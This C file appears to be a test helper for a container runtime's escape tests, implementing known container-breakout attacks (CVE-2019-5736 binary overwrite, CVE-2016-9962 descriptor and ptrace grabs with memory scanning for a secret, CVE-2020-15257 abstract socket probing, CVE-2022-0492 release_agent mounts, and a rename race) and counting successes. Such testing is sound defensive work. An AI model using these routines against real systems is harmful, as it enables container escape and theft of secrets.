// What the escape tests run in a container: attacks that a shell is too slow for, or cannot do.
// Those that go on until they are stopped say then how often they did what.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t stopped;

static void stop(int signal_number) {
  (void)signal_number;
  stopped = 1;
}

// Exchanges two names of a directory.
static int exchange(const char* a, const char* b) {
  unsigned long done = 0, failed = 0;
  while (!stopped) {
    if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) == 0) {
      ++done;
    } else {
      ++failed;
    }
  }
  printf("exchanges %lu\n", done);
  return failed == 0 ? 0 : 1;
}

// What was found of processes that are about to become others.
static struct {
  unsigned long seen, programs, overwritten, descriptors, roots, traced;
  // Of those that were traced: what is not the container's own.
  unsigned long privileged, elsewhere, kept, secrets;
} found;

static int open_in(int process, const char* name, int flags) {
  return openat(process, name, flags | O_CLOEXEC);
}

// CVE-2019-5736: through the descriptor the program can be opened once nothing executes it.
static void overwrite(const char* program) {
  int file = -1;
  for (int attempt = 0; file < 0 && attempt < 10000; ++attempt) {
    file = open(program, O_WRONLY | O_CLOEXEC);
    if (file < 0 && errno != ETXTBSY) return;
  }
  if (file < 0) return;
  if (write(file, "#!/bin/false\n", 13) > 0) ++found.overwritten;
  close(file);
}

// Whether a link leads to the runtime's program; -1 where that may not be seen.
static int is_runtimes(int directory, const char* name) {
  char link[64] = "";
  if (readlinkat(directory, name, link, sizeof(link) - 1) < 0) return errno == EACCES ? -1 : 0;
  return strstr(link, "bulkhead-pod") != NULL;
}

// On its way to the container's: the runtime's program, or one that may not be seen, which one
// that has ended meanwhile is not either.
static int is_ours(int process) {
  int runtimes = is_runtimes(process, "exe");
  return runtimes == 1 || (runtimes < 0 && faccessat(process, "status", F_OK, 0) == 0);
}

// What was reached counts only of a process that is not yet the container's own afterwards.
static void count(int reached, int process, unsigned long* counter) {
  if (reached < 0) return;
  if (is_ours(process)) ++*counter;
  close(reached);
}

// All of a file of a process, in a buffer that the next call uses again.
static const char* read_text(int process, const char* name) {
  static char text[8192];
  int file = open_in(process, name, O_RDONLY);
  ssize_t size = file < 0 ? -1 : read(file, text, sizeof(text) - 1);
  close(file);
  text[size < 0 ? 0 : size] = '\0';
  return text;
}

static unsigned long long field(const char* status, const char* name, int base) {
  const char* at = strstr(status, name);
  return at == NULL ? ~0ULL : strtoull(at + strlen(name), NULL, base);
}

// What a process may: capability sets, and what it is bound by.
struct privileges {
  unsigned long long capabilities, no_new_privileges, filters;
};

static struct privileges privileges_of(int process) {
  const char* status = read_text(process, "status");
  struct privileges all = {
      .capabilities = field(status, "CapInh:", 16) | field(status, "CapPrm:", 16) |
                      field(status, "CapEff:", 16) | field(status, "CapBnd:", 16) |
                      field(status, "CapAmb:", 16),
      .no_new_privileges = field(status, "NoNewPrivs:", 10),
      .filters = field(status, "Seccomp_filters:", 10),
  };
  return all;
}

static int is_privileged(int process, int own) {
  struct privileges its = privileges_of(process), ours = privileges_of(own);
  return (its.capabilities & ~ours.capabilities) != 0 ||
         its.no_new_privileges < ours.no_new_privileges || its.filters < ours.filters;
}

// Whether a namespace, the root or the directory is another.
static int is_elsewhere(int process, int own) {
  static const char* const places[] = {"ns/cgroup", "ns/ipc",  "ns/mnt", "ns/net",
                                       "ns/pid",    "ns/user", "ns/uts", "ns/pid_for_children",
                                       "root",      "cwd"};
  for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); ++i) {
    struct stat its, ours;
    if (fstatat(process, places[i], &its, 0) != 0 || fstatat(own, places[i], &ours, 0) != 0) {
      return 1;
    }
    if (its.st_dev != ours.st_dev || its.st_ino != ours.st_ino) return 1;
  }
  return 0;
}

// Whether there is more than the standard streams and the socket that an error is told by.
static int keeps_descriptors(int process) {
  for (int fd = 3; fd < 256; ++fd) {
    char path[16], link[64] = "";
    snprintf(path, sizeof(path), "fd/%d", fd);
    if (readlinkat(process, path, link, sizeof(link) - 1) < 0) continue;
    if (fd > 3 || strncmp(link, "socket:", 7) != 0) return 1;
  }
  return 0;
}

static int holds(int memory, unsigned long begin, unsigned long end, const char* secret) {
  size_t size = end - begin;
  char* copy = size > (64UL << 20) ? NULL : malloc(size);
  ssize_t got = copy == NULL ? -1 : pread(memory, copy, size, (off_t)begin);
  int held = got > 0 && memmem(copy, (size_t)got, secret, strlen(secret)) != NULL;
  free(copy);
  return held;
}

// Whether the memory that it may write to holds the secret.
static int knows(int process, const char* secret) {
  int memory = open_in(process, "mem", O_RDONLY);
  int known = 0;
  for (const char* line = read_text(process, "maps"); !known && *line != '\0';) {
    unsigned long begin, end;
    char mode[5] = "";
    if (sscanf(line, "%lx-%lx %4s", &begin, &end, mode) == 3 && mode[1] == 'w') {
      known = holds(memory, begin, end, secret);
    }
    const char* rest = strchr(line, '\n');
    line = rest == NULL ? "" : rest + 1;
  }
  close(memory);
  return known;
}

static const char* wanted = "";

// While it is stopped it stays the process that it is.
static void look_into(int process) {
  static int own = -1;
  if (own < 0) own = open("/proc/self", O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (!is_ours(process)) return;
  ++found.traced;
  found.privileged += is_privileged(process, own) != 0;
  found.elsewhere += is_elsewhere(process, own) != 0;
  found.kept += keeps_descriptors(process) != 0;
  found.secrets += *wanted != '\0' && knows(process, wanted);
}

static void trace(pid_t pid, int process) {
  if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0) return;
  ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
  // One that has ended is not to be seen either.
  int status = 0;
  if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) look_into(process);
  ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void take_program(int process) {
  int program = open_in(process, "exe", O_PATH);
  if (program < 0) return;
  char path[32];
  snprintf(path, sizeof(path), "/proc/self/fd/%d", program);
  if (is_runtimes(AT_FDCWD, path) == 1) {
    ++found.programs;
    overwrite(path);
  }
  close(program);
}

// CVE-2016-9962: what the supervisor's child holds.
static void attack_process(pid_t pid, int process) {
  if (!is_ours(process)) return;
  ++found.seen;
  count(open_in(process, "root/", O_PATH), process, &found.roots);
  count(open_in(process, "cwd/", O_PATH), process, &found.roots);
  for (int fd = 0; fd < 32; ++fd) {
    char path[16];
    snprintf(path, sizeof(path), "fd/%d", fd);
    count(open_in(process, path, O_PATH), process, &found.descriptors);
  }
  trace(pid, process);
  take_program(process);
}

static void look_at(const char* pid) {
  char path[32];
  snprintf(path, sizeof(path), "/proc/%.16s", pid);
  int process = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (process < 0) return;
  attack_process(atoi(pid), process);
  close(process);
}

// Looks for processes of the runtime's program, and attacks each. The first one is the hunter, or
// waits for the end of the pod.
static int hunt(void) {
  DIR* proc = opendir("/proc");
  if (proc == NULL) return 1;
  while (!stopped) {
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
      if (atoi(entry->d_name) > 1) look_at(entry->d_name);
    }
    rewinddir(proc);
  }
  closedir(proc);
  printf("seen %lu programs %lu overwritten %lu descriptors %lu roots %lu traced %lu\n", found.seen,
         found.programs, found.overwritten, found.descriptors, found.roots, found.traced);
  printf("privileged %lu elsewhere %lu kept %lu secrets %lu\n", found.privileged, found.elsewhere,
         found.kept, found.secrets);
  return 0;
}

// What a hunter looks for: named like the runtime's program, with a descriptor too many and, as
// argument, a secret.
static int decoy(void) {
  dup2(0, 9);
  printf("waits\n");
  fflush(stdout);
  while (!stopped) pause();
  return 0;
}

// CVE-2020-15257: the inodes of the abstract sockets, and whether somebody answers there.
static int abstract_sockets(void) {
  FILE* table = fopen("/proc/net/unix", "r");
  if (table == NULL) return 1;
  char line[512];
  while (fgets(line, sizeof(line), table) != NULL) {
    unsigned long inode = 0;
    char name[256] = "";
    if (sscanf(line, "%*s %*s %*s %*s %*s %*s %lu @%255[^\n]", &inode, name) != 2) continue;
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strnlen(name, sizeof(address.sun_path) - 2);
    memcpy(address.sun_path + 1, name, length);
    int peer = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int reached = connect(peer, (struct sockaddr*)&address,
                          (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)) == 0;
    printf("%lu %s\n", inode, reached ? "reached" : "refused");
    close(peer);
  }
  fclose(table);
  return 0;
}

static void try_hierarchy(const char* controller) {
  char options[64];
  snprintf(options, sizeof(options), "%s,release_agent=/attack", controller);
  if (mount("cgroup", "/tmp", "cgroup", 0, options) == 0) printf("%s: as option\n", controller);
  if (mount("cgroup", "/tmp", "cgroup", 0, controller) != 0) return;
  int agent = open("/tmp/release_agent", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (agent >= 0 && write(agent, "/attack", 7) > 0) printf("%s: as file\n", controller);
  close(agent);
  umount("/tmp");
}

// CVE-2022-0492: a release agent, as superuser of namespaces of one's own and without them. Prints
// what succeeded.
static int release_agent(void) {
  static const char* const controllers[] = {"memory", "rdma", "devices", "pids", "freezer"};
  for (int own = 0; own < 2; ++own) {
    if (own && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0) break;
    for (size_t i = 0; i < sizeof(controllers) / sizeof(controllers[0]); ++i) {
      try_hierarchy(controllers[i]);
    }
  }
  printf("tried\n");
  return 0;
}

// With the groups that the program's file gives.
static int read_file(const char* path) {
  char bytes[256];
  int file = open(path, O_RDONLY | O_CLOEXEC);
  ssize_t size = file < 0 ? -1 : read(file, bytes, sizeof(bytes));
  if (size < 0) {
    printf("%s\n", strerrorname_np(errno));
  } else {
    fwrite(bytes, 1, (size_t)size, stdout);
  }
  return 0;
}

int main(int argc, char** argv) {
  signal(SIGTERM, stop);
  if (argc == 4 && strcmp(argv[1], "exchange") == 0) return exchange(argv[2], argv[3]);
  if (argc == 2 && strcmp(argv[1], "hunt") == 0) return hunt();
  if (argc == 3 && strcmp(argv[1], "hunt") == 0) {
    wanted = argv[2];
    return hunt();
  }
  if (argc == 3 && strcmp(argv[1], "decoy") == 0) return decoy();
  if (argc == 2 && strcmp(argv[1], "abstract-sockets") == 0) return abstract_sockets();
  if (argc == 2 && strcmp(argv[1], "release-agent") == 0) return release_agent();
  if (argc == 3 && strcmp(argv[1], "read") == 0) return read_file(argv[2]);
  fprintf(stderr,
          "usage: attack exchange A B|hunt [SECRET]|decoy "
          "SECRET|abstract-sockets|release-agent|read FILE\n");
  return 2;
}
